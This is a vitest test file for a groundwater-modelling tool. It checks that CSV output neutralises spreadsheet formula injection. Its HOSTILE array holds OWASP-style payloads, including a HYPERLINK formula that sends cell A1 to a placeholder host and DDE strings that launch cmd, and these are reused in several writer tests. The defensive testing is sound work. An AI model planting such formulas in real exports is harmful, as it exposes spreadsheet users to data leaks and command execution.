/**
 * CSV injection (formula injection): a text cell that a spreadsheet would read as a formula is neutralised as the
 * OWASP "CSV Injection" guidance recommends: a cell beginning with =, +, -, @, tab (0x09) or carriage return (0x0D)
 * gets a leading single quote, and the field is wrapped in double quotes with inner quotes doubled. Numeric cells stay
 * numbers (a negative number keeps its minus sign). Quoting itself follows RFC 4180 (sections 2.6, 2.7).
 */
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/output/csv.js';
import { budgetCsv } from '../../src/output/summary.js';
import { comparisonCsv } from '../../src/output/comparison.js';
import { parseCsv } from '../../src/scenario/text.js';
import type { ComparisonResult } from '../../src/compare/types.js';
import type { WaterBudget } from '../../src/analysis/budget.js';
import { solveModel } from '../../src/pipeline.js';
import { resultFiles } from '../../src/output/solveFiles.js';
import { fixedColumn, makeModel, testGrid } from '../helpers/model.js';

// The payloads of the OWASP page and the trial of issue 9: every trigger character the guidance lists.
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** A cell is safe when a spreadsheet shows it as text: it does not begin with a formula trigger after unquoting. */
const TRIGGER = /^[=+\-@\t\r]/;

describe('csvCell: one function for every text cell of every CSV', () => {
  it('neutralises each trigger character of the OWASP guidance: a leading single quote, and the field quoted', () => {
    for (const text of HOSTILE) {
      const cell = csvCell(text);
      expect(cell.startsWith(`"'`), cell).toBe(true);
      expect(cell.endsWith('"')).toBe(true);
      // RFC 4180 reading gives back the original text behind the quote, nothing lost.
      const [record] = parseCsv(cell);
      expect(record!.fields).toEqual([`'${text}`]);
    }
  });

  it('leaves ordinary text as it was (quoted only where RFC 4180 needs it) and numbers as numbers', () => {
    expect(csvCell('west river')).toBe('west river');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(3e-7)).toBe('3e-7');
    // A number that is not finite is no number a spreadsheet can take: an empty cell.
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe('');
    // Text that merely looks like a negative number is still text the user wrote (a well id "-5"): neutralised.
    expect(csvCell('-5')).toBe(`"'-5"`);
  });
});

function parsed(text: string): string[][] {
  return parseCsv(text).map((r) => r.fields);
}

describe('the CSV writers use it', () => {
  it('budget.csv: hostile fixed-head names are neutralised, the numbers are untouched', () => {
    const budget: WaterBudget = {
      terms: HOSTILE.map((term, k) => ({ term, inflow: k, outflow: -(k + 1) * 0.5 })),
      totalIn: 15,
      totalOut: -7.5,
      discrepancyPercent: 0,
    } as unknown as WaterBudget;
    const rows = parsed(budgetCsv(budget));
    expect(rows[0]).toEqual(['term', 'inflow', 'outflow']);
    HOSTILE.forEach((term, k) => {
      expect(rows[k + 1]![0]).toBe(`'${term}`);
      expect(Number(rows[k + 1]![1])).toBe(k);
      expect(Number(rows[k + 1]![2])).toBe(-(k + 1) * 0.5);
    });
    for (const row of rows) for (const field of row) if (!/^-?[\d.]+(e[-+]?\d+)?$/.test(field)) expect(field).not.toMatch(TRIGGER);
  });

  it('comparison.csv: hostile variant names and well/observation ids are neutralised in rows and header', () => {
    const variant = (name: string) => ({
      name,
      problem: null,
      sharedOperator: true,
      maxDrawdown: { value: 1.5, x: 10, y: 20, row: 0, col: 0 },
      maxRise: 0,
      observations: [{ id: '=obs', x: 0, y: 0, drawdown: -0.25 }],
      receptors: [],
      wellbores: [{ id: '@well', drawdown: 2 }],
      withdrawal: 100,
      sources: { addedPumping: 100, totalPercent: 100, terms: [{ term: '+river', netChange: 100, percentOfAddedPumping: 100 }] },
      result: { budget: { discrepancyPercent: 0 }, stats: { converged: true }, system: { waterTable: null } },
    });
    const c = {
      baseline: { model: { observations: [{ id: '=obs' }] }, system: { waterTable: null } },
      receptors: [{ id: '-spring', x: 0, y: 0 }],
      variants: [variant('-more'), variant('plain')],
    } as unknown as ComparisonResult;
    // The receptor column needs a value per variant.
    for (const v of c.variants) (v as unknown as { receptors: unknown[] }).receptors = [{ id: '-spring', x: 0, y: 0, drawdown: 0.5 }];
    const rows = parsed(comparisonCsv(c));
    expect(rows[1]![0]).toBe("'-more");
    expect(rows[2]![0]).toBe('plain');
    for (const row of rows) for (const field of row) if (!/^-?[\d.]+(e[-+]?\d+)?$/.test(field)) expect(field, field).not.toMatch(TRIGGER);
    // Negative drawdown (a rise) stays a number.
    expect(rows[1]).toContain('-0.25');
  });
});

describe('through a solve', () => {
  it('a fixed-head group named like a formula reaches budget.csv neutralised', () => {
    const grid = testGrid(8, 6, 10);
    const model = makeModel(grid, {
      conductivity: new Float64Array(48).fill(2),
      fixedHeads: [fixedColumn(grid, 0, 12, '=HYPERLINK("http://example.invalid")'), fixedColumn(grid, 7, 10, '@east')],
    });
    const budget = resultFiles(solveModel(model), '', { maps: false }).find((f) => f.name === 'budget.csv')!;
    const rows = parsed(String(budget.bytes));
    expect(rows.map((r) => r[0])).toEqual(['term', `'=HYPERLINK("http://example.invalid")`, "'@east", 'wells', 'recharge', 'total']);
    // Darcy flow from 12 m to 10 m: the west group gives what the east group takes (a closed budget, no sources).
    expect(Number(rows[1]![1])).toBeGreaterThan(0);
    expect(Number(rows[1]![1])).toBeCloseTo(Number(rows[2]![2]), 9);
  });
});
